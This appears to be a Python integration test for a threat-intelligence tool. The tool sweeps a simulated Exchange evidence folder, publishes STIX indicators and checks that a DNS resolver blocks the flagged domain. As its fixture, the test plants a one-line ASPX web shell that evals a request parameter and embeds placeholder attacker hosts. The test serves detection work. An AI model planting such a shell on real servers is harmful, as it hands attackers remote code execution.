"""The loop between the two halves: what a sweep has proved is published, a resolver loads it, blocks the name, and says which
case it is of."""
import json
import pathlib
import shutil
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "exchange"))
import server  # noqa: E402
from postern_process import BINARY, Postern, rcode, until  # noqa: E402

# A shell that calls home, and names what half of the world does, and the own network.
SHELL = ('<%@ Page Language="JScript" %><% // http://www.w3.org/TR/html4/ https://mail.corp.example/owa http://10.1.2.3/\r\n'
         'eval(Request["made-for-tests"]); var u = "https://p.estonine-made-up.com/low?x=1"; var v = "http://203.0.113.77:8080/"; %>')


class Publish(unittest.TestCase):
    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="postern-loop-"))
        self.addCleanup(shutil.rmtree, self.folder)
        server.generate(self.folder, 5, "clean-exposed", days=1)
        place = next((self.folder / "evidence").rglob("wwwroot")) / "aspnet_client"
        place.mkdir(exist_ok=True)
        (place / "made.aspx").write_text(SHELL)

    def sweep(self, *more):
        done = subprocess.run([BINARY, "sweep", "--no-state", "--case", "EX/2021 17", "--own", "corp.example",
                               *more, str(self.folder / "evidence")], capture_output=True, text=True, timeout=300)
        self.assertEqual(done.returncode, 1, done.stderr)
        return done

    def test_from_the_page_to_the_answer(self):
        feed = self.folder / "case.json"
        done = self.sweep("--publish", str(feed))
        self.assertIn("2 indicators; left out: 1 not a public address, 1 one's own, 1 a site of everybody's", done.stderr)
        self.assertIn(f"feeds: [{{name: ex-2021-17, format: stix, path: {feed}}}]", done.stderr)
        objects = json.loads(feed.read_text())["objects"]
        patterns = {each["pattern"]: each for each in objects if each["type"] == "indicator"}
        name = patterns["[domain-name:value = 'p.estonine-made-up.com']"]
        self.assertEqual((name["labels"], name["confidence"]), (["case:EX/2021 17"], 75))
        self.assertIn("valid_until", name)
        address = patterns["[ipv4-addr:value = '203.0.113.77']"]
        self.assertEqual(address["confidence"], 50)
        # The page's own time says when it was last seen: an old one is over by now.
        config = {"feeds": [{"name": "ex-2021-17", "format": "stix", "path": str(feed)}]}
        with Postern(config) as postern:
            until(lambda: rcode(postern.ask("p.estonine-made-up.com")) == "NXDOMAIN", "the name to be blocked")
            self.assertNotEqual(rcode(postern.ask("www.w3.org")), "NXDOMAIN")
            told = postern.cli("explain", "p.estonine-made-up.com")
            line = 1 + next(number for number, text in enumerate(feed.read_text().splitlines()) if "estonine" in text)
            self.assertRegex(told, rf"ex-2021-17\W.*line {line}\b")
            self.assertRegex(told, r"confidence\D+75")
            rules = postern.feed("ex-2021-17")["rules"]
            self.assertEqual(rules, 2)


if __name__ == "__main__":
    unittest.main()
